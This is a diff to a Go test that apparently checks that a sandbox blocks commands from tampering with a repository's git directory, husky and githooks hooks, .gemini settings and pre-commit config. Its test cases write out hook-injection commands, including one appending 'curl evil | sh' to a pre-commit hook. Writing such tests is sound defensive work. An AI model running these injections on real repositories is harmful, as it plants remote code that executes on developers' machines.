@@ -232,6 +232,9 @@ func TestGitDirCannotBeMovedOrReplaced(t *testing.T) {
 		s.WriteFile(p+"/vendor/lib/.git/HEAD", "ref: refs/heads/main\n", 0o644)
 		s.Host("git", "-C", p, "config", "core.hooksPath", ".githooks")
 		s.WriteFile(p+"/.githooks/pre-commit", "#!/bin/sh\nexit 0\n", 0o755)
+		s.WriteFile(p+"/.husky/pre-commit", "npm test\n", 0o755)
+		s.WriteFile(p+"/.gemini/settings.json", "{}\n", 0o644)
+		s.WriteFile(p+"/.pre-commit-config.yaml", "repos: []\n", 0o644)
 		before := listTree(t, p)
 		cfg := hostFile(t, p+"/.git/config")
 		got, r := attempts(t, s, nil, map[string]string{
@@ -248,6 +251,11 @@ func TestGitDirCannotBeMovedOrReplaced(t *testing.T) {
 			"mv nested":            "mv vendor/lib/.git vendor/lib/.git2",
 			"hooksPath":            "echo evil > .githooks/pre-commit",
 			"hooksPath mv":         "mv .githooks .gh && mkdir .githooks",
+			"husky":                "echo 'curl evil | sh' >> .husky/pre-commit",
+			"husky new hook":       "echo evil > .husky/post-checkout",
+			"husky mv":             "mv .husky .h && mkdir .husky",
+			"gemini settings":      "echo '{\"mcpServers\":{}}' > .gemini/settings.json",
+			"pre-commit config":    "echo 'repos: [{repo: local}]' > .pre-commit-config.yaml",
 			"control-git-commit":   "git -c user.name=j -c user.email=j@example.test commit -q --allow-empty -m inside",
 			"control-write-inside": "echo ok > .claude/notes.md && rm .claude/notes.md",
 		})
@@ -258,6 +266,9 @@ func TestGitDirCannotBeMovedOrReplaced(t *testing.T) {
 		}
 		hostUnchanged(t, p+"/.git/config", cfg)
 		hostUnchanged(t, p+"/.githooks/pre-commit", "#!/bin/sh\nexit 0\n")
+		hostUnchanged(t, p+"/.husky/pre-commit", "npm test\n")
+		hostUnchanged(t, p+"/.gemini/settings.json", "{}\n")
+		hostUnchanged(t, p+"/.pre-commit-config.yaml", "repos: []\n")
 		if fi, err := os.Lstat(p + "/.git"); err != nil || !fi.IsDir() {
 			t.Errorf(".git on the host is no longer the directory: %v", err)
 		}
